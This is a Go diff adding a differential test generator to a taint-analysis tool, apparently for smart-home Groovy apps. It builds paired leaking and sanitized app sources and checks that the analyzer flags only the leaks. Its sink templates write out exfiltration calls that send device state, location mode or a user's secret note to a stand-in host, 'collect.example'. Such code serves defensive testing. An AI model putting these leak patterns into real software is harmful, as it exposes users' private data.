@@ -1,0 +1,290 @@
+package conformance
+
+import (
+	"fmt"
+	"math/rand"
+	"strings"
+
+	"github.com/soteria-analysis/soteria/internal/core"
+	"github.com/soteria-analysis/soteria/internal/taint"
+)
+
+// The taint differential mode cross-validates the T.1–T.6 family the
+// same way the engine oracle cross-validates verdicts: a seeded
+// generator emits paired app variants — identical except that the
+// sanitized twin wraps the sensitive expression in a declassification
+// call — and the oracle requires the taint verdict to flip exactly
+// with the sanitizer: the tainted variant must be flagged with
+// precisely the expected property (and nothing else), the sanitized
+// variant must be silent. Any other outcome (missed leak, wrong
+// property, sanitizer ignored) is a mismatch carrying both sources as
+// a reproducer.
+
+// TaintCase is one generated tainted/sanitized app pair.
+type TaintCase struct {
+	Index int
+	// Name describes the pair deterministically:
+	// "pair-03 location-mode->network httpGet conditional".
+	Name string
+	// PropID is the property the tainted variant must violate
+	// ("T.1".."T.6").
+	PropID string
+	// Sanitizer is the declassification call the sanitized variant
+	// wraps the sensitive expression in.
+	Sanitizer string
+	// Tainted and Sanitized are complete Groovy sources, identical
+	// modulo the sanitizer call.
+	Tainted   string
+	Sanitized string
+}
+
+// taintGenCaps are the device capabilities the generator subscribes
+// to; Val is the attribute value used for conditional shapes.
+var taintGenCaps = []struct {
+	Handle, Cap, Attr, Val string
+}{
+	{"kids", "presenceSensor", "presence", "not present"},
+	{"door", "contactSensor", "contact", "open"},
+	{"leak", "waterSensor", "water", "wet"},
+}
+
+var taintGenSanitizers = []string{"redact", "anonymize", "obfuscate"}
+
+// taintGenSinks lists the sink call shapes per channel. The %s slot
+// receives the payload interpolation (`${expr}`).
+var taintGenSinks = map[taint.Channel][]struct {
+	Name string
+	// Stmt renders the direct sink statement; Helper renders the
+	// helper-method body for the handler-boundary shape, taking the
+	// tainted string through a parameter named m.
+	Stmt, Helper string
+}{
+	taint.Messaging: {
+		{"sendSms", `sendSms("555-0199", "d: %s")`, `sendSms("555-0199", m)`},
+		{"sendPush", `sendPush("d: %s")`, `sendPush(m)`},
+		{"sendNotification", `sendNotification("d: %s")`, `sendNotification(m)`},
+	},
+	taint.Network: {
+		{"httpGet", `httpGet("http://collect.example/?d=%s")`, `httpGet(m)`},
+		{"httpPost", `httpPost("http://collect.example", "d=%s")`, `httpPost("http://collect.example", m)`},
+		{"httpPostJson", `httpPostJson("http://collect.example", "d=%s")`, `httpPostJson("http://collect.example", m)`},
+	},
+}
+
+var taintGenShapes = []string{"direct", "conditional", "helper", "state-hop"}
+
+// GenTaintCase generates the index-th taint pair. The (class, channel,
+// shape) triple cycles with the index so any window of 24+ cases
+// covers the whole T family under every shape; the rng picks the
+// remaining degrees of freedom (capability, event field, sink call,
+// sanitizer). Equal (rng state, index) generate equal pairs.
+func GenTaintCase(rng *rand.Rand, index int) *TaintCase {
+	classes := []taint.Class{taint.DeviceState, taint.LocationMode, taint.UserInput}
+	channels := []taint.Channel{taint.Messaging, taint.Network}
+	class := classes[index%len(classes)]
+	channel := channels[(index/len(classes))%len(channels)]
+	shape := taintGenShapes[(index/(len(classes)*len(channels)))%len(taintGenShapes)]
+
+	cap := taintGenCaps[rng.Intn(len(taintGenCaps))]
+	sink := taintGenSinks[channel][rng.Intn(len(taintGenSinks[channel]))]
+	san := taintGenSanitizers[rng.Intn(len(taintGenSanitizers))]
+
+	var expr string
+	switch class {
+	case taint.DeviceState:
+		expr = []string{"evt.displayName", "evt.value"}[rng.Intn(2)]
+	case taint.LocationMode:
+		expr = "location.mode"
+	case taint.UserInput:
+		expr = "secret"
+	}
+
+	propID := ""
+	for _, s := range taint.Catalogue() {
+		if s.Source == class && s.Channel == channel {
+			propID = s.ID
+		}
+	}
+
+	c := &TaintCase{
+		Index:     index,
+		Name:      fmt.Sprintf("pair-%02d %s->%s %s %s", index, class, channel, sink.Name, shape),
+		PropID:    propID,
+		Sanitizer: san,
+	}
+	c.Tainted = taintGenSource(cap, sink, shape, "${"+expr+"}")
+	c.Sanitized = taintGenSource(cap, sink, shape, "${"+san+"("+expr+")}")
+	return c
+}
+
+// taintGenSource renders one complete app variant.
+func taintGenSource(cap struct{ Handle, Cap, Attr, Val string }, sink struct{ Name, Stmt, Helper string }, shape, payload string) string {
+	sinkStmt := fmt.Sprintf(sink.Stmt, payload)
+	body := "    " + sinkStmt
+	extra := ""
+	switch shape {
+	case "conditional":
+		body = fmt.Sprintf("    if (evt.value == %q) {\n        %s\n    }", cap.Val, sinkStmt)
+	case "helper":
+		// The tainted string crosses a method boundary: the handler
+		// builds it, the helper transmits it.
+		arg := `"d: ` + payload + `"`
+		if sink.Name == "httpGet" {
+			arg = `"http://collect.example/?d=` + payload + `"`
+		}
+		body = "    relay(" + arg + ")"
+		extra = "\ndef relay(m) {\n    " + sink.Helper + "\n}\n"
+	case "state-hop":
+		// The sensitive value parks in a persistent state field before
+		// the same handler transmits it: the sink statement reads the
+		// cached string instead of the live expression.
+		body = "    state.cache = \"d: " + payload + "\"\n    " +
+			strings.Replace(sinkStmt, payload, "${state.cache}", 1)
+	}
+	return fmt.Sprintf(`
+definition(name: "taint-gen", namespace: "conf", author: "conf")
+preferences {
+    section("Devices") {
+        input "%s", "capability.%s"
+        input "secret", "text", title: "Secret note"
+    }
+}
+def installed() { subscribe(%s, "%s", h) }
+def h(evt) {
+%s
+}
+%s`, cap.Handle, cap.Cap, cap.Handle, cap.Attr, body, extra)
+}
+
+// TaintMismatch is one pair whose verdicts did not flip as required.
+type TaintMismatch struct {
+	Case *TaintCase
+	// Problem describes the failed assertion.
+	Problem string
+}
+
+func (m *TaintMismatch) Error() string {
+	return fmt.Sprintf("%s: %s\n--- tainted variant ---%s--- sanitized variant ---%s",
+		m.Case.Name, m.Problem, m.Case.Tainted, m.Case.Sanitized)
+}
+
+// taintVerdict analyzes one variant through the real pipeline (core
+// with the taint family only) and returns the sorted violated taint
+// IDs plus the flow count.
+func taintVerdict(name, source string) ([]string, int, error) {
+	a, err := core.AnalyzeSources(core.Options{Taint: true},
+		core.NamedSource{Name: name, Source: source})
+	if err != nil {
+		return nil, 0, err
+	}
+	if a.Incomplete {
+		return nil, 0, fmt.Errorf("analysis incomplete")
+	}
+	ids := map[string]bool{}
+	for _, f := range a.TaintFlows {
+		ids[f.ID] = true
+	}
+	var out []string
+	for _, id := range taint.IDs() {
+		if ids[id] {
+			out = append(out, id)
+		}
+	}
+	return out, len(a.TaintFlows), nil
+}
+
+// CheckTaintCase runs both variants and asserts the differential
+// contract: the tainted variant is flagged with exactly the expected
+// property, the sanitized variant is silent. Returns nil on agreement.
+func CheckTaintCase(c *TaintCase) *TaintMismatch {
+	tids, tflows, err := taintVerdict("tainted", c.Tainted)
+	if err != nil {
+		return &TaintMismatch{Case: c, Problem: fmt.Sprintf("tainted variant: %v", err)}
+	}
+	if tflows == 0 {
+		return &TaintMismatch{Case: c, Problem: fmt.Sprintf("tainted variant: leak missed (want %s)", c.PropID)}
+	}
+	if len(tids) != 1 || tids[0] != c.PropID {
+		return &TaintMismatch{Case: c, Problem: fmt.Sprintf("tainted variant flagged %v, want exactly [%s]", tids, c.PropID)}
+	}
+	sids, sflows, err := taintVerdict("sanitized", c.Sanitized)
+	if err != nil {
+		return &TaintMismatch{Case: c, Problem: fmt.Sprintf("sanitized variant: %v", err)}
+	}
+	if sflows != 0 {
+		return &TaintMismatch{Case: c, Problem: fmt.Sprintf("sanitized variant flagged %v: %s did not clear the mark", sids, c.Sanitizer)}
+	}
+	return nil
+}
+
+// TaintOptions configure a taint differential run.
+type TaintOptions struct {
+	Seed  int64
+	Count int
+	// MaxMismatches stops the run early (0 = collect all).
+	MaxMismatches int
+}
+
+// TaintReport is the outcome of a taint differential run.
+type TaintReport struct {
+	Cases      int
+	Mismatches []*TaintMismatch
+}
+
+// OK reports a clean run.
+func (r *TaintReport) OK() bool { return len(r.Mismatches) == 0 }
+
+// RunTaint generates opts.Count seeded pairs and checks each. It is
+// deterministic for a given (Seed, Count).
+func RunTaint(opts TaintOptions) *TaintReport {
+	rng := rand.New(rand.NewSource(opts.Seed))
+	rep := &TaintReport{}
+	for i := 0; i < opts.Count; i++ {
+		c := GenTaintCase(rng, i)
+		rep.Cases++
+		if m := CheckTaintCase(c); m != nil {
+			rep.Mismatches = append(rep.Mismatches, m)
+			if opts.MaxMismatches > 0 && len(rep.Mismatches) >= opts.MaxMismatches {
+				break
+			}
+		}
+	}
+	return rep
+}
+
+// taintGoldenPairs is the pair count the golden file locks: 25 pairs,
+// 50 verdict lines — every (class, channel, shape) combination plus
+// one wrap-around.
+const taintGoldenPairs = 25
+
+// TaintGoldenReport renders the golden taint verdicts: the first
+// taintGoldenPairs seed-1 pairs with the analyzed verdict of each
+// variant ("T.n" or "clean"). The output is deterministic and
+// versioned under testdata — a propagation or policy change that flips
+// a verdict fails the golden test.
+func TaintGoldenReport() (string, error) {
+	var sb strings.Builder
+	sb.WriteString("# Golden taint verdicts: seeded tainted/sanitized app pairs.\n")
+	sb.WriteString("# Each pair differs only by a sanitizer call; the verdict must\n")
+	sb.WriteString("# flip with it. Regenerate with\n")
+	sb.WriteString("#   go test ./internal/conformance -run TestGoldenTaint -update\n")
+	rng := rand.New(rand.NewSource(1))
+	for i := 0; i < taintGoldenPairs; i++ {
+		c := GenTaintCase(rng, i)
+		fmt.Fprintf(&sb, "\n[%s]\n", c.Name)
+		for _, v := range []struct{ label, src string }{
+			{"tainted", c.Tainted}, {"sanitized", c.Sanitized},
+		} {
+			ids, _, err := taintVerdict(v.label, v.src)
+			if err != nil {
+				return "", fmt.Errorf("taint golden: %s %s: %w", c.Name, v.label, err)
+			}
+			verdict := "clean"
+			if len(ids) > 0 {
+				verdict = strings.Join(ids, ",")
+			}
+			fmt.Fprintf(&sb, "%s = %s\n", v.label, verdict)
+		}
+	}
+	return sb.String(), nil
+}
